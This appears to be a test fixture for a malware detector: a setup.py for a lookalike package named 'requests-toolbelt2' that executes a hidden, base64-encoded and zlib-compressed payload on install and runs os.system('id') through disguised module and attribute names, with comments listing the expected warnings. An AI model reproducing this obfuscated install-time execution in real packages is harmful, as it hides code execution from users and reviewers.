# A setup script packed the way generated obfuscators do it: a lambda that
# imports zlib inline, a reversed compressed payload, hidden module names.
from setuptools import setup

_ = lambda __: __import__("zlib").decompress(__[::-1])  # want "obfuscator signature"
__ = __import__("base64").b64decode("NhH/LgAC5NdQzihRqFRP1zPWNDQz0DPWMDI319KwKSkoyFYt0FHKLS5PUNXNSS4srivWL8rmL8hRKi/ILczLnHg=")
exec((_)(__))  # want "builtins.exec runs data decoded with zlib.decompress"
getattr(__import__("".join(["o", "s"])), "metsys"[::-1])("id")  # want "builtins.__import__ takes the module name 'os' joined from pieces" "builtins.getattr takes the attribute name 'system' reversed"

setup(name="requests-toolbelt2", version="0.0.1")
